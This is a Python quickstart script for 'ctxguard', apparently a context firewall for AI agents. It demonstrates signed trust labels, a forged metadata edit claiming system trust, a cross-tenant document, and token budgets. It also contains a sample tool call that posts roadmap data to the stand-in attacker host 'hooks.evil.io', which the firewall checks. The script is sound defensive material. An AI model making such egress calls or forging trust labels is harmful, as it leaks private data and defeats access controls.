"""Quickstart: labels, signed metadata, trust-scoped admission, budgets and a tool-call check.

Runs offline in a few seconds: `python examples/quickstart.py`. Prints what ctxguard decided.
"""

from __future__ import annotations

import ctxguard

POLICY = """
access:
  tenants:
    acme: {max_clearance: confidential}
    globex: {}
budgets:
  sources:
    "tool:web_*": {max_tokens: 12, on_exceed: truncate}
exfiltration:
  allowed_domains: ["acme.com"]
tools:
  tools:
    post_message: {class: egress, args: {channel_url: {destination: true}}}
"""


def show(title: str, d: ctxguard.Decision) -> None:
    kinds = ", ".join(sorted({f.kind for f in d.findings})) or "-"
    print(f"{title:<44} {d.action.value:<8} trust={d.label.trust:<9} findings: {kinds}")


def main() -> None:
    fw = ctxguard.Firewall(ctxguard.Policy.from_yaml(POLICY), signing_key=b"quickstart-demo-key-32-bytes-long")
    with fw.session(principal="alice", tenant="acme", clearance="internal") as s:
        # The user's own request: what the tool calls below are checked against.
        s.admit("Look up our Q3 roadmap and post it to the team channel.", source="user")
        # A document indexed earlier for acme, with its label signed into its metadata.
        doc = "Acme's Q3 roadmap: ship the billing revamp in October."
        metadata = s.sign(s.label_for(doc, "retriever:wiki"))
        show("signed acme document", s.admit(doc, source="retriever:wiki", metadata=metadata))

        # Someone edits the metadata to claim the document is system-trusted: the signature fails.
        forged = dict(metadata, ctxguard_label=metadata["ctxguard_label"].replace('"internal"', '"system"'))
        show("same document, metadata edited", s.admit(doc, source="retriever:wiki", metadata=forged))

        # A globex document reaches acme's session: out of scope, blocked.
        other = "Globex pricing sheet."
        with fw.session(principal="gus", tenant="globex") as g:
            globex_meta = g.sign(g.label_for(other, "retriever:wiki"))
        show("globex document in acme's session", s.admit(other, source="retriever:wiki", metadata=globex_meta))

        # Web results are capped at 12 tokens by this policy: truncated, not dropped.
        page = "Result one: a long page about billing systems and their many, many configuration options."
        d = s.admit(page, source="tool:web_search")
        show("long web result", d)
        print(f"{'':<44} -> {d.text!r} ({d.tokens} tokens)")

        # A tool call that would post to a host the policy does not allow.
        show(
            "post to an unknown host",
            s.check_tool_call("post_message", {"channel_url": "https://hooks.evil.io/x", "text": "roadmap"}),
        )
        show(
            "post to acme.com",
            s.check_tool_call("post_message", {"channel_url": "https://chat.acme.com/c/1", "text": "roadmap"}),
        )
    print(f"\naudit records: {len(fw.audit.records)}, head seq {fw.audit.head[0]}")


if __name__ == "__main__":
    main()
